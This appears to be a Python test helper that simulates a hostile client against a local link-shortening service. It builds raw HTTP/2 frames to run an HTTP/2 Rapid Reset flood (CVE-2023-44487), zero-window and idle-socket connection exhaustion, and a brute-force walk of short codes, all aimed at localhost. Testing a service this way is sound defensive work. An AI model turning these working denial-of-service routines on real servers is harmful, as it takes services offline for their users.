"""What one hostile client does to a service: many streams, resets, answers that it never takes, silence, a walk of codes.

Attacks come from another address than visitors, so that the service can tell them apart.
"""

import random
import socket
import ssl
import string
import threading
from concurrent.futures import ThreadPoolExecutor

from hpack import Encoder
from hyperframe.frame import HeadersFrame, RstStreamFrame, SettingsFrame

from user_agents import DESKTOP

ATTACKER = "127.0.0.9"
VISITOR = "127.0.0.2"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 8


class Target:
    """Where attacks go: a port that speaks TLS, and one address of a link host."""

    def __init__(self, port, authority, path):
        self.port = port
        self.authority = authority
        self.path = path
        self.contexts = {}
        for protocol in ("h2", "http/1.1"):
            context = self.contexts[protocol] = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols([protocol])

    def connect(self, source):
        connection = socket.create_connection(("127.0.0.1", self.port), timeout=20, source_address=(source, 0))
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return connection

    def secure(self, source, protocol="h2"):
        return self.contexts[protocol].wrap_socket(self.connect(source), server_hostname="localhost")

    def follow(self, source):
        """Follows the link over a connection of its own; whether that led on."""
        request = (f"GET {self.path} HTTP/1.1\r\nHost: {self.authority}\r\nUser-Agent: {DESKTOP}\r\n"
                   "Connection: close\r\n\r\n")
        try:
            with self.secure(source, "http/1.1") as connection:
                connection.sendall(request.encode())
                return connection.recv(65536).startswith(b"HTTP/1.1 302")
        except OSError:
            return False


def opening(settings=None):
    return PREFACE + SettingsFrame(0, settings=settings or {}).serialize()


def requests(target, streams, follow=lambda stream: b""):
    """The frames of that many requests; `follow` gives what comes after each."""
    fields = [(":method", "GET"), (":scheme", "https"), (":authority", target.authority), (":path", target.path),
              ("user-agent", DESKTOP)]
    # Encoded without a table, so that the bytes are the same each time.
    head = Encoder().encode([(name, value, True) for name, value in fields])
    numbers = range(1, 2 * streams, 2)
    return b"".join(
        HeadersFrame(n, head, flags=["END_STREAM", "END_HEADERS"]).serialize() + follow(n) for n in numbers)


def repeated(target, data, connections, workers=16):
    """Connects, sends and leaves, again and again; what the service refuses is no failure of the attack."""

    def attack(_):
        try:
            with target.secure(ATTACKER) as connection:
                connection.sendall(data)
        except OSError:
            pass

    with ThreadPoolExecutor(workers) as pool:
        list(pool.map(attack, range(connections)))


def abandoned_requests(target, connections, streams=100):
    """Asks for much, leaves at once, and comes again."""
    repeated(target, opening() + requests(target, streams), connections)


def rapid_reset(target, connections, streams=200):
    """Takes every request back as soon as it is sent (CVE-2023-44487)."""
    reset = lambda stream: RstStreamFrame(stream, CANCEL).serialize()  # noqa: E731
    repeated(target, opening() + requests(target, streams, reset), connections)


class Hold:
    """Connections that stay open until they are let go."""

    def __init__(self, connect, count, data=b"", workers=16):
        self.connections = []
        lock = threading.Lock()

        def attack(_):
            try:
                connection = connect(ATTACKER)
                connection.sendall(data)
            except OSError:
                return
            with lock:
                self.connections.append(connection)

        with ThreadPoolExecutor(workers) as pool:
            list(pool.map(attack, range(count)))

    @property
    def open(self):
        """How many of them the service has not ended, by a look that takes what has come."""
        return sum(map(self.is_open, self.connections))

    @staticmethod
    def is_open(connection):
        connection.settimeout(0)
        try:
            while connection.recv(65536):
                pass
            return False
        except (BlockingIOError, ssl.SSLWantReadError):
            return True
        except OSError:
            return False

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for connection in self.connections:
            connection.close()


def answers_not_taken(target, connections, streams=100):
    """Asks with a window of no bytes, so that the service keeps what it would send."""
    data = opening({SettingsFrame.INITIAL_WINDOW_SIZE: 0}) + requests(target, streams)
    return Hold(target.secure, connections, data)


def silent_sockets(target, count):
    """Connects and says nothing."""
    return Hold(target.connect, count)


def walk(connection, authority, count, seed, length=4):
    """Tries codes one after the other; gives the statuses of the answers in their order."""
    dice = random.Random(seed)
    statuses = []
    for _ in range(count):
        code = "".join(dice.choices(string.ascii_letters + string.digits, k=length))
        connection.request("GET", "/" + code, headers={"Host": authority, "User-Agent": DESKTOP})
        answer = connection.getresponse()
        answer.read()
        statuses.append(answer.status)
    return statuses
